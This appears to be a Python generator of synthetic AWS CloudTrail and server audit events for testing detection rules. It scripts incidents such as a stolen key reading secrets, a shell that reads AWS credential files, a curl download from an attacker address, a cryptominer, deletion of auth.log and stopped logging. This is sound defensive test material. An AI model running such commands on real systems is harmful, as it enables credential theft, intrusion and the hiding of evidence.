"""What happens in the sample trail that the shipped rules have something to say about, each story some time before the end."""
import datetime
import json

from sample_estate import (BUILD, CLI, CONSOLE, ECS, FRANKFURT, GO, IRELAND, PROD, SAO_PAULO, SECURITY, STAGING, VIRGINIA, WEB, assumed, container_of,
                           digest, instance, root, user)

OFFICE, HOME, STRANGER, POOL = "203.0.113.10", "198.51.100.41", "203.0.113.166", "198.51.100.77"
REPORTS = "Boto3/1.35.71 md/Botocore#1.35.71 image-report/2.1"
NOTES = "Boto3/1.35.71 md/Botocore#1.35.71 feature-notes/0.4"


def engineer(name, time, account=PROD, address=OFFICE, role="PlatformEngineer", agent=CLI):
    return assumed(role, name, account, time - datetime.timedelta(minutes=7), address, agent)


def stolen_key(trail, at):
    """An access key is made, used from elsewhere a day later, and opens a shell on a server through Systems Manager."""
    made = at(26 * 60)
    maria = user("maria.costa", PROD, OFFICE, CONSOLE)
    trail.login(maria, made - datetime.timedelta(minutes=4))
    key = user("ci-upload", PROD, STRANGER, CLI, key="2")
    trail.call(maria, made, "iam", "CreateAccessKey", VIRGINIA, {"userName": "ci-upload"},
               {"accessKey": {"userName": "ci-upload", "accessKeyId": key.identity["accessKeyId"], "status": "Active",
                              "createDate": made.strftime("%b %-d, %Y, %-I:%M:%S %p")}}, read=False)
    calls = [("sts", "GetCallerIdentity", None), ("s3", "ListBuckets", None), ("iam", "ListUsers", None), ("ec2", "DescribeInstances", {"instancesSet": {}, "filterSet": {}}),
             ("ssm", "DescribeInstanceInformation", {"maxResults": 50}), ("ssm", "DescribeParameters", {"maxResults": 50}), ("ecr", "DescribeRepositories", {"maxResults": 100})]
    for number, (source, name, request) in enumerate(calls):
        error = "AccessDenied" if name == "ListUsers" else None
        trail.call(key, at(190 - number * 1.3), source, name, IRELAND, request, error=error)
    for number, name in enumerate(["/prod/db/password", "/prod/db/replica", "/prod/stripe/key", "/prod/jwt/secret", "/prod/smtp/password", "/prod/redis/auth"]):
        trail.call(key, at(178 - number * 0.2), "ssm", "GetParameter", IRELAND, {"name": name, "withDecryption": True})
    session = "ci-upload-0b7d1c5ea9f24c6d8"
    trail.call(key, at(171), "ssm", "StartSession", IRELAND, {"target": WEB.instance},
               {"sessionId": session, "tokenValue": "Value hidden due to security reasons.",
                "streamUrl": f"wss://ssmmessages.{IRELAND}.amazonaws.com/v1/data-channel/{session}?role=publish_subscribe"}, read=False)
    shell_on_web(trail, at, session)
    trail.call(key, at(139), "ssm", "TerminateSession", IRELAND, {"sessionId": session}, {"sessionId": session}, read=False)
    command = {"documentName": "AWS-RunShellScript", "instanceIds": [ECS.instance, instance("web-2")], "interactive": False,
               "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS"}
    trail.call(key, at(133), "ssm", "SendCommand", IRELAND, command,
               {"command": {"commandId": "5d2c9a1e-7a40-4c0b-9a53-0e8f6b1d2c3a", "documentName": "AWS-RunShellScript", "documentVersion": "$DEFAULT",
                            "instanceIds": command["instanceIds"], "status": "Pending", "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS"}}, read=False)
    worker = ECS.start(trail, at(132.8), "/usr/bin/ssm-document-worker 5d2c9a1e-7a40-4c0b-9a53-0e8f6b1d2c3a", "/usr/bin/ssm-document-worker")
    script = ECS.start(trail, at(132.7), "sh -c /var/lib/amazon/ssm/orchestration/awsrunShellScript/_script.sh", "/usr/bin/sh", worker)
    ECS.start(trail, at(132.6), f"curl -fsS http://{STRANGER}/u.sh", "/usr/bin/curl", script)
    trail.call(key, at(131), "ssm", "GetCommandInvocation", IRELAND, {"commandId": "5d2c9a1e-7a40-4c0b-9a53-0e8f6b1d2c3a", "instanceId": ECS.instance})
    trail.call(key, at(127), "cloudtrail", "StopLogging", IRELAND, {"name": f"arn:aws:cloudtrail:{IRELAND}:{PROD}:trail/organization"}, read=False)
    lena = engineer("lena.brandt", at(75))
    trail.call(lena, at(74), "cloudtrail", "StartLogging", IRELAND, {"name": f"arn:aws:cloudtrail:{IRELAND}:{PROD}:trail/organization"}, read=False)
    trail.call(lena, at(70), "iam", "UpdateAccessKey", VIRGINIA,
               {"userName": "ci-upload", "accessKeyId": key.identity["accessKeyId"], "status": "Inactive"}, read=False)


def shell_on_web(trail, at, session):
    """The commands of the session, as the server's agent saw them."""
    worker = WEB.start(trail, at(170.9), f"/usr/bin/ssm-session-worker {session}", "/usr/bin/ssm-session-worker")
    shell = WEB.start(trail, at(170.8), "sh", "/usr/bin/sh", worker, "ssm-user", "pts1", 91, cwd="/usr/bin")
    bash = WEB.start(trail, at(170.2), "bash", "/usr/bin/bash", shell, "ssm-user", "pts1", 91, cwd="/home/ssm-user")

    def run(minutes, arguments, exe, parent=bash, name="ssm-user"):
        return WEB.start(trail, at(minutes), arguments, exe, parent, name, "pts1", 91, cwd="/home/ssm-user")

    for minutes, arguments, exe in [(170, "id", "/usr/bin/id"), (169.8, "uname -a", "/usr/bin/uname"), (169.1, "ps aux", "/usr/bin/ps"),
                                    (168.4, "ss -tlnp", "/usr/bin/ss")]:
        run(minutes, arguments, exe)
    run(167.9, "sudo -l", "/usr/bin/sudo")
    sudo = run(167.2, "sudo bash", "/usr/bin/sudo")
    up = run(167.1, "bash", "/usr/bin/bash", sudo, "root")
    read = run(166, "cat /home/deploy/.aws/credentials", "/usr/bin/cat", up, "root")
    WEB.file(trail, at(166), "open", "/home/deploy/.aws/credentials", read)
    run(163.5, f"curl -s http://{STRANGER}/kw -o /tmp/.kw", "/usr/bin/curl", up, "root")
    run(163.2, "chmod +x /tmp/.kw", "/usr/bin/chmod", up, "root")
    miner = run(162.9, f"/tmp/.kw -o {POOL}:3333 -B", "/tmp/.kw", up, "root")
    connection = {"protocol": "tcp", "src_addr": WEB.address, "src_port": 40112, "dst_addr": POOL, "port": 3333}
    common = {"type": "connect", "syscall": "connect", "success": True, "exit": "0", "pid": miner["pid"], "ppid": up["pid"], "uid": 0, "user": "root",
              "exe": "/tmp/.kw", "command": ".kw", "arguments": miner["arguments"], "tty": "pts1", "session": 91, "connection": connection}
    trail.runtime(WEB, at(162.8), "audit", **common)
    trail.runtime(WEB, at(162.8), "threatintel", **common, threatintel_source="example-feed", threatintel_reason="mining pool", threatintel_type="cryptomining")
    crontab = run(160, "crontab -", "/usr/bin/crontab", up, "root")
    WEB.file(trail, at(160), "modify", "/var/spool/cron/crontabs/root", crontab)
    cleaner = run(141, "rm -f /var/log/auth.log", "/usr/bin/rm", up, "root")
    WEB.file(trail, at(141), "delete", "/var/log/auth.log", cleaner)


def image_with_findings(trail, at, minutes, image, counts):
    """An image is pushed and scanned, has findings, and runs in ECS all the same."""
    repository, tag = image.split(":")
    deployer = assumed("GithubActionsDeploy", "GitHubActions", PROD, at(minutes + 3), "192.0.2.85", GO)
    trail.call(deployer, at(minutes), "ecr", "PutImage", IRELAND, {"repositoryName": repository, "imageTag": tag, "registryId": PROD},
               {"image": {"registryId": PROD, "repositoryName": repository, "imageId": {"imageDigest": digest(image), "imageTag": tag}}}, read=False)
    trail.scan_event(at(minutes - 2), PROD, IRELAND, image, counts)
    scanner = assumed("SecurityAudit", "image-report", PROD, at(minutes - 2), "192.0.2.140", REPORTS)
    trail.call(scanner, at(minutes - 5), "ecr", "DescribeImageScanFindings", IRELAND,
               {"repositoryName": repository, "imageId": {"imageDigest": digest(image)}, "maxResults": 1000},
               {"registryId": PROD, "repositoryName": repository, "imageId": {"imageDigest": digest(image)}, "imageScanStatus": {"status": "COMPLETE"},
                "imageScanFindings": {"findingSeverityCounts": counts}})
    trail.call(deployer, at(minutes - 9), "ecs", "RegisterTaskDefinition", IRELAND,
               {"family": repository.replace("/", "-"), "networkMode": "awsvpc",
                "containerDefinitions": [{"name": repository.split("/")[1], "image": f"{PROD}.dkr.ecr.{IRELAND}.amazonaws.com/{image}", "memory": 1024}]}, read=False)
    trail.call(deployer, at(minutes - 10), "ecs", "RunTask", IRELAND, {"cluster": "prod", "taskDefinition": repository.replace("/", "-"), "count": 1}, read=False)
    trail.runtime(ECS, at(minutes - 11), "container", type="start", runtime="docker", command="/app/server", privileged=False, network_mode="bridge", user="app",
                  **container_of(image, repository.split("/")[1], PROD, IRELAND))


def open_repository(trail, at):
    """A repository is opened to everybody, then closed again."""
    lena = engineer("lena.brandt", at(9 * 60))
    everybody = {"Version": "2012-10-17", "Statement": [{"Sid": "pull", "Effect": "Allow", "Principal": "*",
                                                         "Action": ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"]}]}
    request = {"repositoryName": "shop/web", "registryId": PROD, "force": False}
    trail.call(lena, at(9 * 60), "ecr", "SetRepositoryPolicy", IRELAND, request | {"policyText": json.dumps(everybody)}, read=False)
    everybody["Statement"][0]["Principal"] = {"AWS": f"arn:aws:iam::{STAGING}:root"}
    trail.call(lena, at(8 * 60 + 20), "ecr", "SetRepositoryPolicy", IRELAND, request | {"policyText": json.dumps(everybody)}, read=False)
    trail.call(lena, at(8 * 60 + 12), "ecr", "PutImageScanningConfiguration", IRELAND,
               {"repositoryName": "shop/web", "registryId": PROD, "imageScanningConfiguration": {"scanOnPush": False}}, read=False)


def root_at_work(trail, at, minutes, account):
    owner = root(account, HOME)
    trail.login(owner, at(minutes), mfa=False)
    trail.call(owner, at(minutes - 3), "iam", "UpdateAccountPasswordPolicy", VIRGINIA, {"minimumPasswordLength": 8, "requireSymbols": False}, read=False)


def guessed_password(trail, at):
    ana = user("ana.lima", STAGING, STRANGER, CONSOLE)
    for number in range(7):
        trail.login(ana, at(14 * 1440 - number * 0.4), success=False)
    trail.login(ana, at(14 * 1440 - 6), mfa=False)


def refused_contractor(trail, at):
    contractor = assumed("Contractor", "ext-07", STAGING, at(11 * 1440 + 5), "192.0.2.201", CLI)
    names = [("ec2", "DescribeInstances"), ("iam", "ListRoles"), ("rds", "DescribeDBInstances"), ("lambda", "ListFunctions20150331"),
             ("secretsmanager", "ListSecrets"), ("kms", "ListKeys"), ("ecs", "ListClusters"), ("dynamodb", "ListTables")]
    for number in range(60):
        source, name = names[number % len(names)]
        trail.call(contractor, at(11 * 1440 - number * 0.12), source, name, FRANKFURT, error="AccessDenied")


def public_bucket(trail, at):
    novak = engineer("p.novak", at(17 * 1440), STAGING)
    block = {"RestrictPublicBuckets": False, "BlockPublicPolicy": False, "BlockPublicAcls": False, "IgnorePublicAcls": False}
    trail.call(novak, at(17 * 1440), "s3", "PutBucketPublicAccessBlock", IRELAND,
               {"bucketName": "shop-staging-assets", "publicAccessBlock": "", "PublicAccessBlockConfiguration": block}, read=False)
    statement = {"Sid": "read", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::shop-staging-assets/*"}
    trail.call(novak, at(17 * 1440 - 2), "s3", "PutBucketPolicy", IRELAND,
               {"bucketName": "shop-staging-assets", "policy": "", "bucketPolicy": {"Version": "2012-10-17", "Statement": [statement]}}, read=False)


def open_port(trail, at):
    okafor = engineer("j.okafor", at(8 * 1440), STAGING, role="Developer")
    rule = {"groupId": "sg-0a4f9c2e7b1d35680", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {}, "ipv6Ranges": {},
                                                                            "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}
    trail.call(okafor, at(8 * 1440), "ec2", "AuthorizeSecurityGroupIngress", FRANKFURT, rule, {"_return": True}, read=False)
    for number in range(12):
        trail.runtime(BUILD, at(7.9 * 1440 - number * 0.3), "host", _type="host", sigid=5716, comment="SSHD authentication failed.", level=5,
                      group=["syslog", "sshd", "authentication_failed"], location="/var/log/auth.log", user="root" if number % 2 else "admin", src_ip=STRANGER,
                      src_port=40000 + number, log=f"sshd[9{number:03}]: Failed password for root from {STRANGER} port {40000 + number} ssh2")
    trail.call(okafor, at(7.5 * 1440), "ec2", "RevokeSecurityGroupIngress", FRANKFURT, rule, {"_return": True}, read=False)


def shell_in_container(trail, at):
    souza = engineer("ana.souza", at(4 * 1440), role="Developer")
    trail.call(souza, at(4 * 1440), "ecs", "ExecuteCommand", IRELAND,
               {"cluster": "prod", "container": "orders", "command": "/bin/bash", "interactive": True, "task": "9f1c2d3e4b5a46978897a6b5c4d3e2f1"}, read=False)
    container = container_of("shop/orders:3.8.1", "orders", PROD, IRELAND)
    bash = ECS.start(trail, at(4 * 1440 - 0.2), "/bin/bash", "/usr/bin/bash", user_name="root", tty="pts0", container=container, cwd="/app")
    ECS.start(trail, at(4 * 1440 - 1), "env", "/usr/bin/env", bash, tty="pts0", container=container, cwd="/app")
    ECS.start(trail, at(4 * 1440 - 3), "psql -h orders-db", "/usr/bin/psql", bash, tty="pts0", container=container, cwd="/app")


def session_preferences(trail, at):
    tanaka = engineer("s.tanaka", at(13 * 1440))
    trail.call(tanaka, at(13 * 1440), "ssm", "UpdateDocument", IRELAND,
               {"name": "SSM-SessionManagerRunShell", "documentVersion": "$LATEST", "content": json.dumps(
                   {"schemaVersion": "1.0", "sessionType": "Standard_Stream", "inputs": {"cloudWatchLogGroupName": "", "s3BucketName": ""}})}, read=False)


def costly_machines(trail, at):
    rossi = engineer("m.rossi", at(21 * 1440), role="DataEngineer", agent=CONSOLE)
    trail.call(rossi, at(21 * 1440), "ec2", "RunInstances", VIRGINIA,
               {"instancesSet": {"items": [{"imageId": "ami-0aa11bb22cc33dd44", "minCount": 2, "maxCount": 2}]}, "instanceType": "p4d.24xlarge"},
               error="Client.InstanceLimitExceeded: You have requested more vCPU capacity than your current limit allows", read=False)


def new_region(trail, at):
    """A region and a service that nobody used before."""
    for day in range(5, -1, -1):
        rossi = engineer("m.rossi", at(day * 1440 + 620), role="DataEngineer", agent=NOTES)
        for number in range(6 + 4 * (5 - day)):
            trail.call(rossi, at(day * 1440 + 600 - number * 3.1), "bedrock", "InvokeModel", SAO_PAULO,
                       {"modelId": "anthropic.claude-3-5-sonnet-20241022-v2:0"}, read=True)


def tell(trail, days):
    """All stories that fit into the last days of the trail."""
    def at(minutes):
        return trail.until - datetime.timedelta(minutes=minutes)

    stolen_key(trail, at)
    open_repository(trail, at)
    root_at_work(trail, at, 6 * 60, STAGING)
    image_with_findings(trail, at, 20 * 60, "shop/checkout:2.31.0", {"CRITICAL": 1, "HIGH": 4, "MEDIUM": 11, "LOW": 20})
    for least_days, story in [(5, shell_in_container), (6, new_region), (9, open_port), (12, refused_contractor), (14, session_preferences),
                              (15, guessed_password), (18, public_bucket), (22, costly_machines)]:
        if days >= least_days:
            story(trail, at)
    for day, image, counts in [(3, "shop/web:5.12.3", {"HIGH": 2, "MEDIUM": 7}), (10, "data/features:0.9.4", {"HIGH": 1, "LOW": 9}),
                               (24, "shop/orders:3.7.0", {"CRITICAL": 2, "HIGH": 6, "MEDIUM": 3})]:
        if days > day:
            image_with_findings(trail, at, day * 1440 + 300, image, counts)
    if days > 33:
        root_at_work(trail, at, 33 * 1440, SECURITY)
